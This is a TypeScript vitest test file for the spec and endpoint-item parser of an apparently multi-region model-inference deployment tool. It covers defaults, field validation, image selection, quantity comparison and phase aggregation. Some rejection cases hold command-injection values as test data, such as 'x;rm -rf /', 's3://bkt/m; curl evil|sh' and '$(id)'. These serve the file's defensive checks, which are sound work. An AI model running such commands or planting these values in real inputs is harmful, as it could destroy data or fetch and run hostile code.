import { describe, expect, test } from 'vitest';
import {
  aggregatePhase,
  assertStatusInvariants,
  type Endpoint,
  effectiveImage,
  endpointNameProblem,
  InvalidSpecError,
  parseEndpointItem,
  parseSpec,
  quantitiesEqual,
  type RegionStatus,
  setCondition,
  statusInvariantViolations,
  unknownSpecKeys,
  withImage,
} from './index.js';

const firstIssue = (raw: unknown) => {
  const r = parseSpec(raw);
  if (r.ok) throw new Error('expected the spec to be rejected');
  return r.error.message;
};

describe('spec defaults', () => {
  test.each([
    ['a count', { max_unavailable: 2 }, 2],
    ['a percentage', { max_unavailable: '25%' }, '25%'],
    ['nothing: one', {}, 1],
  ])('disruption.max_unavailable accepts %s', (_case, disruption, expected) => {
    const r = parseSpec({ image: 'i', disruption });
    expect(r.ok && r.value.disruption).toEqual({ max_unavailable: expected });
  });

  test('fills every default, when only the image is given', () => {
    const r = parseSpec({ image: 'vllm/vllm-openai:v0.6.3' });
    expect(r.ok && r.value).toEqual({
      image: 'vllm/vllm-openai:v0.6.3',
      replicas: 1,
      gpu_count: 1,
      accelerator: 'nvidia',
      port: 8000,
      health_check_path: '/health',
      env: {},
      resources: { requests: { cpu: '1', memory: '4Gi' }, limits: { cpu: '4', memory: '16Gi' } },
      server_root_path: 'auto',
    });
  });

  test.each([
    [
      'autoscaling',
      { autoscaling: { enabled: true } },
      { enabled: true, min_replicas: 1, max_replicas: 10, metrics: [{ type: 'cpu', target: 70 }] },
    ],
    ['canary', { canary: { image: 'x:2' } }, { image: 'x:2', weight: 10, replicas: 1 }],
    [
      'resources',
      { resources: { requests: { cpu: '2' } } },
      { requests: { cpu: '2' }, limits: { cpu: '4', memory: '16Gi' } },
    ],
  ])('defaults nested fields of %s, when they are partly given', (field, extra, expected) => {
    const r = parseSpec({ image: 'img', ...extra });
    expect(r.ok && (r.value as Record<string, unknown>)[field]).toEqual(expected);
  });

  test('coerces env numbers and booleans to strings, and drops nulls written by Python', () => {
    const r = parseSpec({ image: 'img', env: { A: 1, B: true }, command: null, canary: null });
    expect(r.ok && r.value.env).toEqual({ A: '1', B: 'true' });
    expect(r.ok && r.value.command).toBeUndefined();
    expect(r.ok && r.value.canary).toBeUndefined();
  });
});

describe('spec rejections name the field', () => {
  test.each([
    ['image missing', {}, 'spec.image: is required'],
    ['image with whitespace', { image: 'nginx latest' }, 'spec.image: must be an image reference'],
    ['image with shell', { image: 'x;rm -rf /' }, 'spec.image:'],
    ['image with leading dash', { image: '-x' }, 'spec.image:'],
    [
      'canary weight too big',
      { image: 'i', canary: { image: 'j', weight: 140 } },
      'spec.canary.weight: must be an integer between 0 and 100, got 140',
    ],
    [
      'replicas not a number',
      { image: 'i', replicas: 'two' },
      'spec.replicas: must be an integer between 0 and 1000, got "two"',
    ],
    [
      'replicas above limit',
      { image: 'i', replicas: 1001 },
      'spec.replicas: must be an integer between 0 and 1000, got 1001',
    ],
    [
      'gpu_count fractional',
      { image: 'i', gpu_count: 1.5 },
      'spec.gpu_count: must be an integer between 0 and 64, got 1.5',
    ],
    ['port zero', { image: 'i', port: 0 }, 'spec.port: must be an integer between 1 and 65535, got 0'],
    [
      'accelerator unknown',
      { image: 'i', accelerator: 'tpu' },
      'spec.accelerator: must be one of nvidia|neuron, got "tpu"',
    ],
    [
      'capacity type unknown',
      { image: 'i', capacity_type: 'reserved' },
      'spec.capacity_type: must be one of spot|on-demand',
    ],
    [
      'env name with digit first',
      { image: 'i', env: { '1BAD': 'x' } },
      'spec.env.1BAD: names must be letters, digits and "_"',
    ],
    ['env name with shell', { image: 'i', env: { 'A;B': 'x' } }, 'spec.env.A;B:'],
    [
      'health path relative',
      { image: 'i', health_check_path: 'health' },
      'spec.health_check_path: must be an absolute path',
    ],
    [
      'model source not s3',
      { image: 'i', model_source: 'https://x/y' },
      'spec.model_source: must be s3://bucket[/prefix]',
    ],
    [
      'model source with shell',
      { image: 'i', model_source: 's3://bkt/m; curl evil|sh' },
      'spec.model_source:',
    ],
    ['model source with subshell', { image: 'i', model_source: 's3://bkt/$(id)' }, 'spec.model_source:'],
    ['model source with quote', { image: 'i', model_source: "s3://bkt/a'b" }, 'spec.model_source:'],
    [
      'model source option-like',
      { image: 'i', model_source: '--delete' },
      'spec.model_source: must be s3://bucket[/prefix] (must not start with "-")',
    ],
    ['model source bucket uppercase', { image: 'i', model_source: 's3://MyBucket/x' }, 'spec.model_source:'],
    [
      'model source bucket as IP',
      { image: 'i', model_source: 's3://10.0.0.1/x' },
      'spec.model_source: must be s3://bucket[/prefix] (bucket must not look like an IP address)',
    ],
    ['model source with dot-dot', { image: 'i', model_source: 's3://bkt/a/../b' }, 'spec.model_source:'],
    [
      'args with newline',
      { image: 'i', args: ['--x', 'a\nb'] },
      'spec.args[1]: must not contain control characters',
    ],
    [
      'command with NUL',
      { image: 'i', command: ['python\u0000'] },
      'spec.command[0]: must not contain control characters',
    ],
    ['args not a list', { image: 'i', args: '--foo' }, 'spec.args: must be a list'],
    [
      'quantity malformed',
      { image: 'i', resources: { limits: { memory: '16 GB' } } },
      'spec.resources.limits.memory: must be a quantity',
    ],
    [
      'request above limit',
      { image: 'i', resources: { requests: { cpu: '8' } } },
      'spec.resources.requests.cpu: must not exceed limits.cpu (4), got "8"',
    ],
    [
      'node selector key invalid',
      { image: 'i', node_selector: { 'bad key': 'x' } },
      'spec.node_selector.bad key: keys must be valid label keys',
    ],
    [
      'autoscaling min above max',
      { image: 'i', autoscaling: { enabled: true, min_replicas: 5, max_replicas: 2 } },
      'spec.autoscaling.min_replicas: must not exceed max_replicas (2), got 5',
    ],
    [
      'autoscaling metric type',
      { image: 'i', autoscaling: { metrics: [{ type: 'gpu' }] } },
      'spec.autoscaling.metrics[0].type: must be one of cpu|memory',
    ],
    [
      'disruption max_unavailable of 0 (a budget that blocks every drain)',
      { image: 'i', disruption: { max_unavailable: 0 } },
      'spec.disruption.max_unavailable: must be an integer between 1 and 1000, got 0',
    ],
    [
      'disruption max_unavailable of 0%',
      { image: 'i', disruption: { max_unavailable: '0%' } },
      'spec.disruption.max_unavailable: must be a percentage from 1% to 100%, got "0%"',
    ],
    [
      'disruption max_unavailable above 100%',
      { image: 'i', disruption: { max_unavailable: '150%' } },
      'spec.disruption.max_unavailable: must be a percentage from 1% to 100%, got "150%"',
    ],
    [
      'disruption max_unavailable neither a count nor a percentage',
      { image: 'i', disruption: { max_unavailable: true } },
      'spec.disruption.max_unavailable: must be a count from 1 to 1000 or a percentage like "25%", got true',
    ],
    [
      'server_root_path unknown',
      { image: 'i', server_root_path: 'yes' },
      'spec.server_root_path: must be true, false or "auto"',
    ],
    [
      'region image invalid',
      { image: 'i', region_image_uris: { 'us-east-1': 'a b' } },
      'spec.region_image_uris.us-east-1:',
    ],
  ])('rejects %s', (_case, raw, message) => {
    expect(firstIssue(raw)).toContain(message);
  });

  test('accepts args that look like shell (they are passed without a shell)', () => {
    const r = parseSpec({ image: 'i', args: ['--prompt', '$(echo hi); `x` | y && z'] });
    expect(r.ok).toBe(true);
  });

  test('InvalidSpecError carries every issue as {path, rule}', () => {
    const r = parseSpec({ image: 'i', port: 0, replicas: -1 });
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.error).toBeInstanceOf(InvalidSpecError);
    expect(r.error.issues.map((i) => i.path)).toEqual(['spec.replicas', 'spec.port']);
  });

  test('lists unknown top-level spec keys for the CLI to warn about', () => {
    expect(unknownSpecKeys({ image: 'i', replica: 3, extra_args: [] })).toEqual(['extra_args', 'replica']);
  });
});

describe('endpoint items', () => {
  const legacy = {
    endpoint_name: 'llama3-8b',
    desired_state: 'running',
    target_regions: ['us-west-2', 'us-east-1', 'us-east-1'],
    namespace: 'gco-inference',
    spec: { image: 'vllm/vllm-openai:v0.6.3', replicas: 2 },
    ingress_path: '/inference/llama3-8b',
    created_at: '2025-01-01T00:00:00Z',
    region_status: { 'us-east-1': { state: 'running', replicas_ready: 2 } },
  };

  test('parses a legacy Python item: no generation ⇒ 0, region_status ignored, regions sorted and unique', () => {
    const r = parseEndpointItem(legacy);
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    expect(r.value).toMatchObject({
      name: 'llama3-8b',
      desiredState: 'running',
      targetRegions: ['us-east-1', 'us-west-2'],
      generation: 0,
      ingressPath: '/inference/llama3-8b',
      createdAt: '2025-01-01T00:00:00Z',
    });
    expect(r.value).not.toHaveProperty('region_status');
    expect(r.value).not.toHaveProperty('regionStatus');
  });

  test('accepts target_regions as a DynamoDB string set', () => {
    const r = parseEndpointItem({ ...legacy, target_regions: new Set(['b-1', 'a-1']) });
    expect(r.ok && r.value.targetRegions).toEqual(['a-1', 'b-1']);
  });

  test.each([
    ['name too long', { endpoint_name: 'a'.repeat(54) }, 'endpoint_name: must be at most 53 characters'],
    ['name with uppercase', { endpoint_name: 'Llama' }, 'endpoint_name: must be lowercase'],
    ['name starting with digit', { endpoint_name: '3llama' }, 'endpoint_name: must be lowercase'],
    ['namespace invalid', { namespace: 'Kube_System' }, 'namespace: must be a DNS-1123 label'],
    [
      'desired state unknown',
      { desired_state: 'paused' },
      'desired_state: must be one of deploying|running|stopped|deleted',
    ],
    [
      'spec field invalid',
      { spec: { image: 'i', port: 70000 } },
      'spec.port: must be an integer between 1 and 65535, got 70000',
    ],
  ])('rejects an item with %s, keeping the name for the error status', (_case, patch, message) => {
    const r = parseEndpointItem({ ...legacy, ...patch });
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.error.message).toContain(message);
    expect(r.name).toBe((patch as { endpoint_name?: string }).endpoint_name ?? 'llama3-8b');
  });

  test('never throws, whatever it is given', () => {
    for (const raw of [null, undefined, 42, 'x', [], { spec: null }])
      expect(parseEndpointItem(raw).ok).toBe(false);
  });

  test('a 53-character name still gives valid canary and ingress names', () => {
    expect(endpointNameProblem('a'.repeat(53))).toBeUndefined();
    expect(`inference-${'a'.repeat(53)}`).toHaveLength(63);
  });
});

describe('images', () => {
  const spec = { image: 'repo/app:1', region_image_uris: { 'eu-west-1': 'eu.registry/app:1' } };
  test.each([
    ['eu-west-1', 'eu.registry/app:1'],
    ['us-east-1', 'repo/app:1'],
  ])('the effective image in %s is %s', (region, image) => {
    expect(effectiveImage(spec, region)).toBe(image);
  });

  test('withImage drops the stale region map unless a new one is given', () => {
    const parsed = parseSpec(spec);
    if (!parsed.ok) throw parsed.error;
    expect(effectiveImage(withImage(parsed.value, 'repo/app:2'), 'eu-west-1')).toBe('repo/app:2');
    expect(
      effectiveImage(withImage(parsed.value, 'repo/app:2', { 'eu-west-1': 'eu/app:2' }), 'eu-west-1'),
    ).toBe('eu/app:2');
  });
});

describe('names and quantities', () => {
  test.each([
    ['1000m', '1', true],
    ['0.5', '500m', true],
    ['4Gi', '4096Mi', true],
    ['1G', '1000M', true],
    ['1e3', '1k', true],
    ['4Gi', '4G', false],
    ['2', '1', false],
  ])('quantity %s == %s is %s', (a, b, eq) => {
    expect(quantitiesEqual(a, b)).toBe(eq);
  });
});

describe('aggregate phase', () => {
  const ep: Pick<Endpoint, 'desiredState' | 'targetRegions' | 'generation'> = {
    desiredState: 'running',
    targetRegions: ['r1', 'r2'],
    generation: 3,
  };
  const st = (region: string, patch: Partial<RegionStatus> = {}): RegionStatus => ({
    endpointName: 'e',
    region,
    state: 'running',
    replicasReady: 1,
    replicasDesired: 1,
    observedGeneration: 3,
    ingressPulled: false,
    conditions: [],
    lastSync: 't',
    lastTransition: 't',
    ...patch,
  });

  test.each([
    ['running, when every target region is current and ready', ep, [st('r1'), st('r2')], {}, 'running'],
    ['deploying, when a region has not reported yet', ep, [st('r1')], {}, 'deploying'],
    [
      'deploying, when a region is on an older generation',
      ep,
      [st('r1'), st('r2', { observedGeneration: 2 })],
      {},
      'deploying',
    ],
    [
      'deploying, when a region is still creating',
      ep,
      [st('r1'), st('r2', { state: 'creating', replicasReady: 0 })],
      {},
      'deploying',
    ],
    [
      'degraded, when a region is in error',
      ep,
      [st('r1'), st('r2', { state: 'error', error: 'boom' })],
      {},
      'degraded',
    ],
    [
      'degraded, when a region had its Ingress pulled',
      ep,
      [st('r1'), st('r2', { ingressPulled: true })],
      {},
      'degraded',
    ],
    [
      'degraded, when a running region lost ready replicas',
      ep,
      [st('r1'), st('r2', { replicasReady: 0 })],
      {},
      'degraded',
    ],
    [
      'degraded, when a region monitor is stale',
      ep,
      [st('r1'), st('r2')],
      { staleRegions: new Set(['r2']) },
      'degraded',
    ],
    [
      'stopped, when desired state is stopped',
      { ...ep, desiredState: 'stopped' as const },
      [],
      {},
      'stopped',
    ],
    [
      'deleting, when desired state is deleted',
      { ...ep, desiredState: 'deleted' as const },
      [st('r1')],
      {},
      'deleting',
    ],
    [
      'running ignores status items of non-target regions',
      ep,
      [st('r1'), st('r2'), st('r3', { state: 'error' })],
      {},
      'running',
    ],
  ])('is %s', (_case, endpoint, statuses, options, phase) => {
    expect(aggregatePhase(endpoint, statuses, options).phase).toBe(phase);
  });

  test('status invariants: running at an old generation is flagged', () => {
    expect(() => assertStatusInvariants(st('r1'), 3)).not.toThrow();
    expect(statusInvariantViolations(st('r1', { observedGeneration: 2 }), 3)).toEqual([
      '4: running but observedGeneration 2 != generation 3',
    ]);
    const both = st('r1', {
      state: 'error',
      conditions: [
        { type: 'Ready', status: 'True', reason: 'Succeeded', message: '', lastTransitionTime: 't' },
        { type: 'Stalled', status: 'True', reason: 'InvalidSpec', message: '', lastTransitionTime: 't' },
      ],
    });
    expect(() => assertStatusInvariants(both)).toThrow(/Ready and Stalled are both True/);
  });

  test('setCondition keeps lastTransitionTime unless something changed', () => {
    const c1 = setCondition([], { type: 'Ready', status: 'True', reason: 'Succeeded', message: 'ok' }, 't1');
    const c2 = setCondition(c1, { type: 'Ready', status: 'True', reason: 'Succeeded', message: 'ok' }, 't2');
    const c3 = setCondition(c2, { type: 'Ready', status: 'False', reason: 'Unready', message: '0/1' }, 't3');
    expect(c2[0]?.lastTransitionTime).toBe('t1');
    expect(c3[0]?.lastTransitionTime).toBe('t3');
  });
});
